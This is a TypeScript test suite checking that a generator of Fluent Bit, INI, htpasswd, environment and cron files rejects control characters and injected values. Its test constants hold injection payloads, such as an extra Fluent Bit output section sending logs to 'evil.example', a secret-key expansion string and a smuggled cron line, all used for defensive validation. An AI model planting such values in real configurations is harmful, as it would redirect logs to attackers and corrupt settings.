/**
 * No inventory string reaches a generated file unchecked. Each generated text format refuses
 * control characters and what else could add a section or a key (defence in depth: the loader
 * refuses them too, these tests bypass it by changing the parsed inventory), and the program
 * stops with the field named instead of writing the file.
 */
import { describe, expect, it } from "vitest";
import { fluentBitConfig } from "../../components/fluent-bit-config";
import { cron } from "../../components/formats/cron";
import { envEntry } from "../../components/formats/env";
import { renderFluentBit } from "../../components/formats/fluent-bit";
import { htpasswdLine } from "../../components/formats/htpasswd";
import { renderIni } from "../../components/formats/ini";
import { UnsafeValueError } from "../../components/formats/text";
import type { Inventory } from "../../inventory/schema";
import type { CapturedResource } from "../support/mocks";
import { fixture } from "./fixture";
import { AGENT_ADD_ONS, runFixtureRegion } from "./run";

/** Newline, CR, NUL, an `[OUTPUT]` section, C1 next-line, the Unicode line separator, ESC, DEL. */
const HOSTILE = [
  "id-1\n",
  "id-1\r",
  "id-1\0",
  "id-1\n[OUTPUT]\n    Name  http\n    Host  evil.example\n    Match *",
  "id-1\r\n[OUTPUT]",
  "id-1\u0085[OUTPUT]",
  "id-1\u2028[OUTPUT]",
  "id-1\u001b[2J",
  "id-1\u007f",
];

const store = { site: "drc-pdn", endpoint: "https://s3.pdn.go.id", bucket: "spbe-contoh", region: "id-1" };

describe("each generated format refuses a hostile value in every field", () => {
  it.each(HOSTILE.map((h) => [JSON.stringify(h), h]))("Fluent Bit: %s", (_, h) => {
    for (const field of ["bucket", "region", "endpoint"] as const) {
      expect(() => fluentBitConfig("contoh", { ...store, [field]: `${store[field]}${h}` }), field).toThrow(
        new RegExp(`objectStorage\\.${field}: contains the control character`),
      );
    }
    expect(() => fluentBitConfig(`contoh${h}`, store)).toThrow(/region\.key: contains the control character/);
  });

  it("Fluent Bit: refuses environment expansion, blanks and empty values", () => {
    const out = (value: string) => () =>
      renderFluentBit([{ section: "OUTPUT", entries: [{ key: "bucket", value, field: "f" }] }]);
    expect(out("${AWS_SECRET_ACCESS_KEY}")).toThrow(/f: contains '\$\{'/);
    expect(out(" spbe")).toThrow(/f: starts or ends with blanks/);
    expect(out("")).toThrow(/f: is empty/);
    expect(() => fluentBitConfig("contoh", { ...store, endpoint: "http://s3.pdn.go.id" })).toThrow(
      /not https/,
    );
  });

  it.each(HOSTILE.map((h) => [JSON.stringify(h), h]))("INI, htpasswd, environment: %s", (_, h) => {
    expect(() =>
      renderIni("default", { aws_access_key_id: `AK${h}`, aws_secret_access_key: "k" }, "creds"),
    ).toThrow(UnsafeValueError);
    expect(() => htpasswdLine("consumer", `dinkes${h}`, "{SHA}x")).toThrow(UnsafeValueError);
    expect(() => envEntry("AWS_S3_BUCKET_NAME", `b${h}`, "bucket")).toThrow(
      /bucket: contains the control character/,
    );
  });

  it("htpasswd: refuses a user that would split into user and password", () => {
    expect(() => htpasswdLine("consumer", "dinkes:{SHA}abc", "{SHA}x")).toThrow(/contains ':'/);
  });

  it("writes exactly one section per block, one key per line, for clean values", () => {
    const conf = fluentBitConfig("contoh", store);
    expect(conf.match(/^\[OUTPUT\]$/gm)).toHaveLength(1);
    expect(conf.match(/^\[INPUT\]$/gm)).toHaveLength(2);
    for (const line of conf.split("\n").filter((l) => l && !l.startsWith("["))) {
      expect(line).toMatch(/^ {4}[A-Za-z][A-Za-z0-9_.]* +\S.*$/);
    }
  });
});

/** Runs the fixture region with one parsed-inventory change; resolves to the error it stopped with, if any. */
async function stops(change: (inv: Inventory) => void): Promise<string> {
  const inv = fixture();
  change(inv);
  try {
    // The region's own log shipper (platforms without the agents' charts) writes the file.
    const { resources } = await runFixtureRegion(inv, { without: AGENT_ADD_ONS });
    return `no error; ${countOutputs(resources)} [OUTPUT] sections`;
  } catch (e) {
    return e instanceof Error ? e.message : String(e);
  }
}

function countOutputs(resources: CapturedResource[]): number {
  return resources
    .flatMap((r) => Object.values((r.inputs.data ?? {}) as Record<string, string>))
    .map((text) => (String(text).match(/^\[OUTPUT\]/gm) ?? []).length)
    .reduce((a, b) => a + b, 0);
}

const INJECT = "\n[OUTPUT]\n    Name http\n    Host evil.example";

describe("the program stops with the field named instead of writing a hostile value", () => {
  const pdnOnly = (inv: Inventory) => {
    for (const app of inv.applications) if (app.data?.backup) app.data.backup.target = "drc-pdn";
  };
  const pdn = (inv: Inventory) => inv.sites.find((s) => s.id === "drc-pdn")!;

  it.each([
    ["objectStorage.region", (inv: Inventory) => void (pdn(inv).objectStorage!.region = `id-1${INJECT}`)],
    ["objectStorage.bucket", (inv: Inventory) => void (pdn(inv).objectStorage!.bucket = `spbe${INJECT}`)],
    [
      "objectStorage.endpoint",
      (inv: Inventory) => void (pdn(inv).objectStorage!.endpoint = `https://s3.pdn.go.id${INJECT}`),
    ],
  ])("sites[].%s into the Fluent Bit configuration", async (field, change) => {
    const message = await stops((inv) => {
      pdnOnly(inv);
      change(inv);
    });
    expect(message).toContain(`sites 'drc-pdn'.${field}: contains the control character U+000A`);
  });

  it("region.key into the log path of the Fluent Bit configuration", async () => {
    const message = await stops((inv) => {
      pdnOnly(inv);
      inv.region.key = `contoh${INJECT}`;
    });
    expect(message).toContain("region.key: contains the control character U+000A");
  });

  it("a Docker-hosted app's backup schedule into the backup container's cron", async () => {
    const message = await stops((inv) => {
      inv.applications.push({
        ...inv.applications[0],
        id: "arsip",
        owner: "bkpsdm",
        domain: undefined,
        exposure: "intra",
        replicas: 1,
        placement: { mode: "hosting", site: "drc-dinas" },
        data: {
          ...inv.applications[0].data!,
          backup: { ...inv.applications[0].data!.backup!, schedule: "0 3 * * *\nBACKUP_STOP=1" },
        },
      });
    });
    // The backup plan refuses it before the container is built; the container's own check is below.
    expect(message).toMatch(/backup schedule '0 3 \* \* \*\nBACKUP_STOP=1'/);
    expect(() => cron("0 3 * * *\nBACKUP_STOP=1", "arsip backup schedule")).toThrow(
      /arsip backup schedule: contains the control character U\+000A/,
    );
    expect(() => cron("@daily", "s")).toThrow(/not a five-field cron expression/);
    expect(cron("0  3 * * *", "s")).toBe("0 3 * * *");
  });

  it("clean values generate the configuration with its one [OUTPUT] section", async () => {
    expect(await stops(pdnOnly)).toBe("no error; 1 [OUTPUT] sections");
  });
});
